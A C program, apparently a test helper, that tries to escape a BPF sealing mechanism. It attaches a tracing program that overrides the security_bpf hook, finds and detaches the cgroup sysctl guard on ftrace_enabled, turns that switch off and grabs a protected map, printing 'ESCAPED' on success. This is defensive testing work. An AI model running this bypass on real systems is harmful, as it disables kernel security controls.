// SPDX-License-Identifier: GPL-2.0
/*
 * loading-switch: says "ready", and then, while somebody loads an engine and seals it: a program that overrules bpf(2)
 * is there before, hands out the link by which the switch of ftrace is guarded, and is gone by the time anybody looks for
 * such programs. By the link the guard is taken off, and the switch turned: then a map of the engine's can be had.
 * Prints ESCAPED where it worked, or the step that did not; that one it tries until there is /tmp/over.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

#include "bpf_load.h"
#include "find_map.h"

/* Is there when who loads the engine has come to an end. */
#define OVER "/tmp/over"

/* All but the loader's own question pass. */
static const struct bpf_insn overrule[] = {
	LOAD(BPF_REG_1, BPF_REG_1, 0),
	SET(BPF_REG_0, 1),
	INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_1, 0, 1, BPF_PROG_TEST_RUN),
	SET(BPF_REG_0, 0),
	EXIT,
};

static int attach_overruling(int *program)
{
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_MODIFY_RETURN);
	int function = libbpf_find_vmlinux_btf_id("security_bpf", BPF_MODIFY_RETURN);

	opts.attach_btf_id = (__u32)function;
	*program = function < 0 ? -1 :
				  bpf_prog_load(BPF_PROG_TYPE_TRACING, "overrule", "GPL", overrule,
						sizeof(overrule) / sizeof(*overrule), &opts);
	return *program < 0 ? -1 : bpf_raw_tracepoint_open(NULL, *program);
}

static bool guards_switch(int link)
{
	struct bpf_link_info info = { 0 };
	__u32 size = sizeof(info);

	return !bpf_obj_get_info_by_fd(link, &info, &size) && info.type == BPF_LINK_TYPE_CGROUP &&
	       info.cgroup.attach_type == BPF_CGROUP_SYSCTL;
}

static int find_guard(void)
{
	__u32 id = 0;

	while (!bpf_link_get_next_id(id, &id)) {
		int link = bpf_link_get_fd_by_id(id);

		if (link >= 0 && guards_switch(link))
			return link;
		close(link);
	}
	return -1;
}

static bool turn_switch(const char *to)
{
	int fd = open("/proc/sys/kernel/ftrace_enabled", O_WRONLY | O_CLOEXEC);
	bool turned = fd >= 0 && write(fd, to, 1) == 1;

	if (fd >= 0)
		close(fd);
	return turned;
}

int main(void)
{
	int program, link = attach_overruling(&program), guard = -1, map = -1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (link < 0) {
		puts("the program is not attached");
		return 1;
	}
	puts("ready");
	while (guard < 0 && access(OVER, F_OK))
		guard = find_guard();
	close(link);
	close(program);
	if (guard < 0) {
		puts("no link was found");
		return 1;
	}
	/* It looks for the program for a while, and then there is none. */
	while (map < 0 && access(OVER, F_OK)) {
		map = find_map("state");
		if (map >= 0 || bpf_link_detach(guard) || !turn_switch("0"))
			continue;
		while (map < 0 && access(OVER, F_OK))
			map = find_map("state");
	}
	turn_switch("1");
	puts(map >= 0 ? "ESCAPED" : "no map was found");
	return map < 0;
}
